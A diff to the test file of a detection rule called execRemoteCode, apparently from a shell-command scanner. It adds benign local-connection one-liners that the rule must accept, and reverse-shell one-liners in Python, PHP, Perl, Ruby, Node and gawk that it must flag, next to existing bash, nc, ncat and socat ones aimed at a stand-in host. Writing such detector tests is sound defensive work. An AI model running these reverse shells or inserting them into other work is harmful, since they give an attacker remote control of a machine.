@@ -3,6 +3,11 @@ import { runRuleTests } from '../rule-tester.js';
 
 runRuleTests(execRemoteCode, {
   valid: [
+    // code that connects, or runs a shell, but does not hand one to the other
+    `python3 -c 'import socket; s = socket.create_connection(("localhost", 5432)); print("ok")'`,
+    `python3 -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "echo hi"])'`,
+    `node -e 'require("net").connect(3000, "localhost").on("connect", () => process.exit(0))'`,
+    `ruby -rsocket -e 'puts TCPSocket.new("localhost", 6379).gets'`,
     // network tools that run nothing for the other end
     'nc -zv db.internal 5432',
     'echo PING | nc localhost 6379',
@@ -49,6 +54,14 @@ runRuleTests(execRemoteCode, {
     'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
     'sh -i < /dev/tcp/203.0.113.5/4444 > /dev/tcp/203.0.113.5/4444',
     'nc -e /bin/sh 203.0.113.5 4444',
+    // reverse shells from interpreters
+    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
+    `python3 -c 'import socket,pty,os;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")'`,
+    `php -r '$s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
+    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");exec("/bin/sh -i");'`,
+    `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3")'`,
+    `node -e 'var net=require("net"),sh=require("child_process").spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.5",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);})'`,
+    `gawk 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print |& s; close(c) } }'`,
     'ncat --exec /bin/bash 203.0.113.5 4444',
     'socat exec:"bash -li",pty,stderr tcp:203.0.113.5:4444',
     // the shell that runs the download sits in a subshell or a group of the pipeline
